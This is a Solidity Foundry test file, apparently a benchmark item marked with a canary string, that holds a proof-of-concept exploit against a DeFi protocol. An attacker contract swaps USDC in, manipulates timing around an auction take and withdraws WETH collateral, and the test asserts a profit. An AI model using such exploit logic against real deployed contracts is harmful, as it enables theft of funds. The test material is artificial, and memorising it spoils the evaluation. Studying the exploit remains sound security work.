// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-19c91a33-13db-4307-8ceb-653928c9b402
import "../Base.sol";

contract Attacker {
    function begin(IERC20 usdc, PegModule peg, AuctionHouse house) external {
        usdc.approve(address(peg), type(uint256).max);
        peg.dollar().approve(address(house), type(uint256).max);
        peg.swap_in(20e6, address(this));
    }

    function end(AuctionHouse house, CollateralGate gate) external {
        try house.take(1, 40e18, type(uint256).max, address(this), "") {
            gate.withdraw(40e18, address(this));
        } catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usdc.mint(address(other), 20e6);
    }

    function exploit() public {
        other.begin(usdc, peg, house);
        vm.warp(block.timestamp + 6 hours - 1);
        other.end(house, weth_gate);
    }

    function test_Exploit() public {
        exploit();
        require(weth.balanceOf(address(other)) >= 20e18, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
